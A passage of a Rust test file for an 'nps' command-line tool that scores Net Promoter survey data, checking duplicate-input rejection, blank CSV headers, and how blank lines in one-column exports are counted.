    let link = link.display().to_string();
    let run = nps(&["score", &f, &link]);
    run.expect(2);
    assert!(run.stderr.contains(&link), "{run:?}");
    nps(&["compare", &f, &link]).expect(2);
    nps(&["inspect", &f, &link]).expect(2);
    // Standard input named twice, as `-` and as /dev/stdin.
    let run = nps_with_stdin(&["score", "-", "/dev/stdin"], Some(b"score\n9\n10\n"));
    run.expect(2);
    assert!(run.stderr.contains("/dev/stdin"), "{run:?}");
    nps_with_stdin(&["score", "-", "-"], Some(b"score\n9\n10\n")).expect(2);
    // Two different files with the same content are two inputs.
    let (_other, g) = crafted("base.csv", b"score\n9\n10\n3\n7\n8\n9\n");
    let two = score_json(&f, &[&g]);
    assert_eq!(two["n"], 12);
}

#[test]
fn a_blank_header_does_not_take_the_name_of_a_real_column() {
    // Finding F10: the real "column 2" holds 9, 10, 9 (NPS +100); the blank one 0, 0, 1.
    let (_dir, f) = crafted("bn.csv", b"id,,x,column 2\n1,0,a,9\n2,0,b,10\n3,1,c,9\n");
    let j = score_json(&f, &["--score-col", "column 2"]);
    assert_eq!(j["n"], 3);
    close(&j["nps"], 100.0, 1e-9);
    let run = nps(&["inspect", &f, "-q", "-f", "csv"]);
    run.expect(0);
    assert!(run.stdout.contains("column 2 (2)"), "{run:?}");
}

#[test]
fn blank_lines_of_a_one_column_file_are_blank_answers() {
    // Finding F11: in a one-column export an empty line is a record with an empty field.
    // 9, 10 promoters, 3 a detractor, two blanks: read 5, n 3. The last line end starts no
    // record; CRLF and a stream read the same.
    for text in [
        "score\n9\n\n3\n\n10\n",
        "score\r\n9\r\n\r\n3\r\n\r\n10\r\n",
        "score\n9\n\n3\n\n10",
    ] {
        let (_dir, f) = crafted("one.csv", text.as_bytes());
        let file = score_json(&f, &[]);
        let stdin = nps_with_stdin(&["score", "-", "-f", "json"], Some(text.as_bytes()));
        for j in [file, stdin.expect(0).json()] {
            assert_eq!(j["rows"]["read"], 5, "{text:?}: {j}");
            assert_eq!(j["rows"]["blank"], 2, "{text:?}: {j}");
            assert_eq!(j["n"], 3, "{text:?}: {j}");
        }
    }
    // Multi-column files still skip empty lines.
    let (_dir, f) = crafted("two.csv", b"id,score\n1,9\n\n2,3\n\n");
    let j = score_json(&f, &[]);
    assert_eq!(j["rows"]["read"], 2);
    assert_eq!(j["rows"]["blank"], 0);
}
